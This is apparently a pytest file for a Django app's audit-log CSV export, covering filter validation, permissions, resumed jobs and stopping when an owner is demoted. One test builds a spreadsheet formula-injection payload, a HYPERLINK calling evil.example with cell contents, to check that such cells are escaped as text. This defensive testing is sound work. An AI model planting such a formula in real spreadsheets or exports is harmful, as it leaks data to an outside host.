"""Starting an audit export: its filters are checked up front, and the job (run here through
the same service the Celery task calls) honours them."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from adminapp.accounts.models import OrgMembership, User
from adminapp.audit.models import AuditEvent
from adminapp.exports.jobs import AuditExport
from adminapp.jobs.engine import job_run
from adminapp.jobs.models import Job
from tests.api.helpers import API, api_error
from tests.factories import PASSWORD, make_key


@pytest.fixture
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def _export(client, tenant, filters: dict):
    return client.post(
        f"{API}/audit/exports", filters, content_type="application/json", **tenant.auth()
    )


def _run(job_id: str) -> Job:
    job_run(job_id=job_id)
    return Job.objects.get(id=job_id)


def _rows(media: Path, job: Job) -> list[dict]:
    with open(media / "exports" / f"audit-{job.id}.csv", newline="") as fh:
        return list(csv.DictReader(fh))


def test_export_with_since_after_until_is_422_and_starts_no_job(client, tenant):
    before = Job.objects.count()
    response = _export(
        client, tenant, {"since": "2024-02-01T00:00:00Z", "until": "2024-01-01T00:00:00Z"}
    )
    error = api_error(response, 422, "validation_error")
    assert "since" in error["fields"]
    assert Job.objects.count() == before


def test_export_with_out_of_range_time_is_422(client, tenant):
    response = _export(client, tenant, {"until": "0001-01-01T00:00:00+05:00"})
    error = api_error(response, 422, "validation_error")
    assert error["fields"] == {"until": ["Out of range."]}


def test_export_with_unknown_filter_is_422(client, tenant):
    error = api_error(_export(client, tenant, {"who": "me"}), 422, "validation_error")
    assert error["fields"] == {"who": ["Unknown field."]}


def test_export_as_member_is_403(client, tenant):
    response = client.post(
        f"{API}/audit/exports", {}, content_type="application/json", **tenant.auth("MEMBER")
    )
    api_error(response, 403, "permission_denied")


def test_export_since_in_the_future_succeeds_with_no_rows(client, tenant, media):
    response = _export(client, tenant, {"since": "2999-01-01T00:00:00Z"})
    assert response.status_code == 202, response.content
    job = _run(response.json()["id"])
    assert job.state == "SUCCEEDED", (job.error_code, job.error_message)
    assert _rows(media, job) == []


def test_export_honours_the_action_filter(client, tenant, media):
    for event_type in ("alpha", "beta", "alpha"):
        client.post(
            f"{API}/audit/custom/{event_type}", {}, content_type="application/json", **tenant.auth()
        )
    response = _export(client, tenant, {"action": "custom.alpha"})
    job = _run(response.json()["id"])
    assert job.state == "SUCCEEDED"
    assert [row["action"] for row in _rows(media, job)] == ["custom.alpha", "custom.alpha"]


@pytest.mark.parametrize("damage", ["missing", "shorter", "different"])
def test_a_resumed_export_whose_partial_file_cannot_be_trusted_starts_over_and_is_whole(
    client, tenant, media, settings, damage
):
    settings.AUDIT_EXPORT_CHUNK = 2
    for n in range(5):
        client.post(
            f"{API}/audit/custom/n{n}", {}, content_type="application/json", **tenant.auth()
        )
    job = _run(_export(client, tenant, {"action": "custom."}).json()["id"])
    assert job.state == "SUCCEEDED"
    path = media / "exports" / f"audit-{job.id}.csv"
    whole = path.read_bytes()
    # As if the worker died after its last chunk and another machine picked the job up,
    # with no copy of the file, a truncated one, or one of the same size that differs.
    Job.objects.filter(id=job.id).update(state="QUEUED", result_file="")
    if damage == "missing":
        path.unlink()
    elif damage == "shorter":
        path.write_bytes(whole[:10])
    else:
        path.write_bytes(whole.replace(b"custom.n1", b"custom.XX"))

    job = _run(job.id)

    assert (job.state, job.outcome) == ("SUCCEEDED", "SUCCESS"), job.error_message
    assert path.read_bytes() == whole  # the header once, every row once, no NUL padding
    assert [r["action"] for r in _rows(media, job)] == [f"custom.n{n}" for n in range(5)]
    assert job.items.count() == 3 and job.items_succeeded == 3  # the outcomes, recorded anew


# --- what a spreadsheet would run, and rights lost while the export runs (Hardening II #32) ---
@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_as_a_formula_are_exported_as_text(
    client, tenant, media, prefix
):
    formula = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"Click")'
    AuditEvent.objects.create(
        organization=tenant.org,
        actor_type="user",
        actor_id=tenant.member.id,
        actor_label=formula,
        action="custom.csv",
        target_type="user",
        target_id=formula,
    )
    job = _run(_export(client, tenant, {"action": "custom.csv"}).json()["id"])
    [row] = _rows(media, job)
    assert (row["actor_label"], row["target_id"]) == ("'" + formula, "'" + formula)


def test_a_member_whose_email_reads_as_a_formula_is_exported_as_text(client, tenant, media):
    """The same through the API: an email may begin with "=" or "-", and it is the actor's
    label of every event that person writes."""
    for email in ("=1+2@example.com", "-2+3@example.com", "a=b@example.com"):
        added = client.post(
            f"{API}/organizations/{tenant.org.id}/members",
            {"email": email, "role": "MEMBER", "password": PASSWORD},
            content_type="application/json",
            **tenant.auth(),
        )
        assert added.status_code == 201, added.content
        user = User.objects.get(email=email)
        client.post(
            f"{API}/audit/custom/hello",
            {},
            content_type="application/json",
            HTTP_AUTHORIZATION=f"Bearer {make_key(user, tenant.org)}",
        )
    job = _run(_export(client, tenant, {"action": "custom.hello"}).json()["id"])
    assert [row["actor_label"] for row in _rows(media, job)] == [
        "'=1+2@example.com",
        "'-2+3@example.com",
        "a=b@example.com",  # text that does not start a formula is left as it is
    ]


def test_an_export_stops_with_a_clear_error_once_its_owner_may_no_longer_read_the_log(
    client, tenant, media, settings, monkeypatch
):
    """The ADMIN who started it is made a MEMBER while it runs: the rows after that are not
    written, the job fails saying why, and there is no file to download."""
    settings.AUDIT_EXPORT_CHUNK = 2
    for n in range(6):
        client.post(
            f"{API}/audit/custom/n{n}", {}, content_type="application/json", **tenant.auth()
        )
    response = client.post(
        f"{API}/audit/exports",
        {"action": "custom."},
        content_type="application/json",
        **tenant.auth("ADMIN"),
    )
    real_apply = AuditExport.apply

    def apply_then_demote(self, ctx, chunk):
        outcomes = real_apply(self, ctx, chunk)
        OrgMembership.objects.filter(user=tenant.admin).update(account_role="MEMBER")
        return outcomes

    monkeypatch.setattr(AuditExport, "apply", apply_then_demote)

    job = _run(response.json()["id"])

    assert (job.state, job.error_code) == ("FAILED", "owner_permission_lost")
    assert job.error_message == (
        f"{tenant.admin.email} may no longer read and export the audit log (audit.read), "
        "which this job needs: their role changed after it started. It stopped there."
    )
    assert job.progress_done == 2 and job.items_succeeded == 1  # the first chunk only
    assert job.result_file == ""
    download = client.get(f"{API}/jobs/{job.id}/download", **tenant.auth("OWNER"))
    assert download.status_code == 404
